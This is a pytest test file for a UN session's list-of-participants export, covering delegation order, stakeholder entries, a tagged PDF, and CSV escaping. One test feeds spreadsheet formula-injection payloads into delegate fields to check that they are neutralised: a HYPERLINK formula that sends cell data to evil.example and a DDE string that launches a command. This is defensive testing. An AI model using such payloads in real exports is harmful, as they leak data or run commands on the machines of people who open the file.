"""A session's list of participants: the UN's order (Member States alphabetically in English, then Observer States,
then stakeholders), heads of delegation first, the heading, a tagged PDF and a CSV whose cells never run as
formulas; only approved delegations and confirmed representatives."""

import csv
import io

import pytest
from pypdf import PdfReader

from registrations import participants, services
from registrations.services import stakeholders


@pytest.fixture
def session_with_delegations(
    open_session, mission_mex, mission_che, mission_vat, mission_zaf, make_focal_point, make_registration,
    secretariat_user,
):  # fmt: skip
    """Mexico, Switzerland and the Holy See approved, South Africa submitted; each with a head and one member."""
    for mission, status in ((mission_che, "approved"), (mission_vat, "approved"), (mission_mex, "approved"),
                            (mission_zaf, "submitted")):  # fmt: skip
        make_registration(
            session=open_session,
            mission=mission,
            focal_point=make_focal_point(mission),
            secretariat=secretariat_user,
            status=status,
            members=[services.MemberData(family_name=f"Adviser {mission.state.iso3}", function="=1+2")],
        )
    return open_session


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_delegations_come_in_the_un_order_with_heads_first(session_with_delegations):
    order = [
        (d.section, d.name, [m.family_name for m in d.members])
        for d in participants.delegations(session_with_delegations)
    ]
    assert order == [
        ("Member States", "Mexico", ["Gómez-Camacho", "Adviser MEX"]),
        ("Member States", "Switzerland", ["Gómez-Camacho", "Adviser CHE"]),
        ("Observer States", "Holy See", ["Gómez-Camacho", "Adviser VAT"]),
    ]


def test_confirmed_representatives_of_organizations_come_last(
    session_with_delegations, make_organization, django_user_model, secretariat_user
):
    organization = make_organization(name="Migrant Forum in Asia")
    person = django_user_model.objects.create_user(
        "ana@mfa.example.org", "ana@mfa.example.org", "pw", first_name="Ana", last_name="Reyes"
    )
    representation = stakeholders.representation_request(
        session=session_with_delegations, organization=organization, by=person, function="Coordinator"
    )
    stakeholders.representation_decide(representation=representation, by=secretariat_user, confirm=True)
    last = list(participants.delegations(session_with_delegations))[-1]
    assert (last.section, last.name, [(m.name, m.function) for m in last.members]) == (
        "Stakeholders",
        "Migrant Forum in Asia",
        [("Ana Reyes", "Coordinator")],
    )


def test_csv_escapes_formula_cells_and_lists_approved_delegations_only(session_with_delegations):
    rows = _csv_rows(participants.participants_csv(session_with_delegations))
    assert rows[0] == participants.CSV_HEADER
    assert [(r[0], r[1], r[2], r[5], r[6]) for r in rows[1:]] == [
        ("Member States", "Mexico", "yes", "Gómez-Camacho", "Ambassador"),
        ("Member States", "Mexico", "", "Adviser MEX", "'=1+2"),
        ("Member States", "Switzerland", "yes", "Gómez-Camacho", "Ambassador"),
        ("Member States", "Switzerland", "", "Adviser CHE", "'=1+2"),
        ("Observer States", "Holy See", "yes", "Gómez-Camacho", "Ambassador"),
        ("Observer States", "Holy See", "", "Adviser VAT", "'=1+2"),
    ]


def test_csv_escapes_the_formulas_delegates_type(session_with_delegations):
    registration = session_with_delegations.delegation_registrations.get(mission__state__iso3="MEX")
    registration.members.filter(is_head=False).update(
        given_name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        family_name="+cmd|' /C calc'!A0",
        function="@SUM(1+1)",
        email="-2+3@example.org",
    )
    adviser = _csv_rows(participants.participants_csv(session_with_delegations))[2]
    assert (adviser[4], adviser[5], adviser[6], adviser[8]) == (
        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)",
        "'-2+3@example.org",
    )


def test_pdf_is_headed_with_the_session_and_tagged(session_with_delegations, monkeypatch):
    monkeypatch.setattr(participants, "PDF_CHUNK_NAMES", 3)  # three parts, laid out one by one
    reported = []
    content = participants.participants_pdf(session_with_delegations, progress=reported.append)
    assert reported == [4, 6]
    reader = PdfReader(io.BytesIO(content))
    text = " ".join(" ".join(page.extract_text() for page in reader.pages).split())
    session = session_with_delegations
    assert text.startswith(
        f"Test process {session.ordinal_name} {session.title} 6–7 May 2030 · Room XX, Palais des Nations, Geneva "
        "Provisional list of participants Member States Mexico Head of delegation: H.E. Mr. Juan José "
        "Gómez-Camacho, Ambassador Adviser MEX, =1+2"
    )
    assert "South Africa" not in text
    assert "Observer States Holy See" in text
    assert reader.trailer["/Root"]["/Lang"] == "en"
    assert "/StructTreeRoot" in reader.trailer["/Root"]
